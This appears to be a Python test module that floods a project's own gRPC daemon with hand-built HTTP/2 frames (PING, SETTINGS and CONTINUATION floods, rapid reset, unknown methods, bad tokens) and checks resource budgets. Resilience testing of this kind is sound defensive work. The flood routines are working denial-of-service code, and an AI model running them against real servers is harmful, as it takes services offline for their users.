"""HTTP/2 floods at line rate by one stranger over four connections to gRPC's TCP port."""

from __future__ import annotations

import select
import socket
import struct
from collections.abc import Callable
from functools import partial

from tests.attacks.rows import Budget, Row
from tests.attacks.target import Target, Until, connect

CONNECTIONS = 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_DESCRIBE = "/hearth.v1.NodeService/Describe"
_CALLS = 300
"""Calls that are written at once."""

Make = Callable[[int], bytes]
"""Bytes of some calls, from a stream id on."""


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _field(name: str, value: str) -> bytes:
    """HPACK: a literal that is not indexed."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def _fields(path: str, *more: tuple[str, str]) -> bytes:
    named = [(":path", path), (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    return b"\x83\x86" + b"".join(_field(*each) for each in (*named, *more))


def _calls(make: Callable[[int], bytes], first: int) -> bytes:
    return b"".join(make(first + 2 * number) for number in range(_CALLS))


def _call(fields: bytes, stream: int) -> bytes:
    return _frame(_HEADERS, _END_HEADERS, stream, fields) + _frame(_DATA, _END_STREAM, stream, b"\0\0\0\0\0")


def _reset(stream: int) -> bytes:
    code = struct.pack(">I", 8)
    return _frame(_HEADERS, _END_HEADERS, stream, _fields(_DESCRIBE)) + _frame(_RESET, 0, stream, code)


def _flood(target: Target, seconds: float, make: Make, begin: bytes = b"") -> dict[str, int]:
    """Sends what `make` makes as fast as it is taken, until the daemon has closed every connection or the time is up;
    reads what comes."""
    until, sent, closed = Until(seconds), 0, 0
    pending: dict[socket.socket, tuple[int, memoryview]] = {}
    for _ in range(CONNECTIONS):
        connection = connect(target.grpc)
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0) + begin)
        connection.setblocking(False)
        pending[connection] = (1, memoryview(b""))
    while until and pending:
        readable, writable, _ = select.select(pending, pending, [], 0.1)
        for connection in {*readable, *writable}:
            stream, rest = pending[connection]
            try:
                if connection in readable and not connection.recv(1 << 20):
                    raise ConnectionResetError
                if connection in writable:
                    if not rest:
                        stream, rest = stream + 2 * _CALLS, memoryview(make(stream))
                    done = connection.send(rest)
                    sent, pending[connection] = sent + done, (stream, rest[done:])
            except BlockingIOError:
                continue
            except OSError:
                connection.close()
                del pending[connection]
                closed += 1
    for connection in pending:
        connection.close()
    return {"KiB sent": sent >> 10, "closed by the daemon": closed}


def pings(target: Target, seconds: float) -> dict[str, int]:
    block = _frame(_PING, 0, 0, b"12345678") * 2000
    return _flood(target, seconds, lambda _: block)


def settings(target: Target, seconds: float) -> dict[str, int]:
    block = _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
    return _flood(target, seconds, lambda _: block)


def continuations(target: Target, seconds: float) -> dict[str, int]:
    block = _frame(_CONTINUATION, 0, 1, _field("x", "y") * 100) * 50
    return _flood(target, seconds, lambda _: block, _frame(_HEADERS, 0, 1, _fields("/a")))


def rapid_resets(target: Target, seconds: float) -> dict[str, int]:
    return _flood(target, seconds, partial(_calls, _reset))


def unknown_methods(target: Target, seconds: float) -> dict[str, int]:
    return _flood(target, seconds, partial(_calls, partial(_call, _fields("/no.such.Service/Method"))))


def bad_tokens(target: Target, seconds: float) -> dict[str, int]:
    fields = _fields(_DESCRIBE, ("authorization", "Bearer hearth_" + "x" * 40))
    return _flood(target, seconds, partial(_calls, partial(_call, fields)))


def health_checks(target: Target, seconds: float) -> dict[str, int]:
    return _flood(target, seconds, partial(_calls, partial(_call, _fields("/grpc.health.v1.Health/Check"))))


_BUDGET = Budget(slower=5.0, rate=0.5, growth_mib=48, descriptors=2)
_METADATA = Budget(slower=5.0, rate=0.5, growth_mib=128, descriptors=2)
"""gRPC bounds the metadata of a frame, not of a call: the growth is what comes until the guard looks."""

ROWS = (
    Row("PING flood", pings, _BUDGET, via="grpc"),
    Row("SETTINGS flood", settings, _BUDGET, via="grpc"),
    Row(
        "CONTINUATION flood",
        continuations,
        _METADATA,
        via="grpc",
    ),
    Row("rapid reset", rapid_resets, _BUDGET, via="grpc"),
    Row("unknown methods", unknown_methods, _BUDGET, via="grpc"),
    Row("bad tokens", bad_tokens, _BUDGET, via="grpc"),
    Row("health checks", health_checks, _BUDGET, via="grpc"),
)
